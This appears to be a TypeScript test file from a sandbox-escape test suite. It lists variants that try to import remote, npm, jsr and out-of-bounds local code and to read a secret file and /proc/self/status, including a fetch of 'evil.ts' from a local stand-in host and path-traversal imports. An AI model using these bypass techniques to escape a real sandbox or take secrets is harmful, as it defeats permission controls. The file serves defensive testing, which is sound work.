/** Family 4: code from https, jsr, npm and other folders, by static and dynamic imports. */
import { builtin, hostile, plan, secretIn, type Variant } from "../attack.ts";

const moduleModule = () => builtin<typeof import("node:module")>("module");

/** Names that no analysis of the source finds. */
const load = async (name: string, type?: string) => {
  const module = await (type === undefined ? import(name) : import(name, { with: { type } }));
  return secretIn(module.default ?? Object.keys(module).join());
};
const remote = `http://127.0.0.1:${plan.tcp_port}/evil.ts`;

const variants: readonly Variant[] = [
  { name: "static-https", run: () => load("./static_https.ts") },
  { name: "static-jsr", run: () => load("./static_jsr.ts") },
  { name: "static-npm", run: () => load("./static_npm.ts") },
  { name: "static-npm-cached", run: () => load("./static_npm_cached.ts") },
  { name: "static-file", run: () => load("./static_file.ts") },
  { name: "static-text", run: () => load("./static_text.ts") },
  { name: "static-bytes", run: () => load("./static_bytes.ts") },
  { name: "dynamic-https", run: () => load("https://deno.land/std/version.ts") },
  { name: "dynamic-http", run: () => load(remote) },
  { name: "dynamic-jsr", run: () => load("jsr:@std/assert") },
  { name: "dynamic-npm", run: () => load("npm:is-odd") },
  { name: "dynamic-npm-cached", run: () => load("npm:fast-check@4.3.0") },
  { name: "dynamic-npm-literal", run: () => load("./literal_npm.ts") },
  { name: "dynamic-file", run: () => load(plan.outside_module) },
  {
    name: "dynamic-path",
    run: () => load(`..${"/..".repeat(12)}${new URL(plan.outside_module).pathname}`),
  },
  { name: "dynamic-text", run: () => load(`file://${plan.secret_path}`, "text") },
  { name: "dynamic-bytes", run: () => load(`file://${plan.secret_path}`, "bytes") },
  { name: "dynamic-json", run: () => load(`file:///proc/self/status`, "json") },
  { name: "symlinked-module", run: () => load("./outside_link.ts") },
  {
    name: "require-file",
    run: () =>
      secretIn(
        moduleModule().createRequire(import.meta.url)(new URL(plan.outside_module).pathname),
      ),
  },
  {
    name: "require-json",
    run: () => secretIn(moduleModule().createRequire(import.meta.url)(plan.secret_path)),
  },
  {
    name: "require-package",
    run: () => moduleModule().createRequire(import.meta.url)("commander") && "a package",
  },
  {
    name: "import-scripts",
    run: () =>
      (globalThis as { importScripts?: (name: string) => void }).importScripts?.(
        plan.outside_module,
      ),
  },
  { name: "import-meta-resolve", run: () => load(import.meta.resolve("npm:fast-check@4.3.0")) },
];

export const open = await hostile(variants);
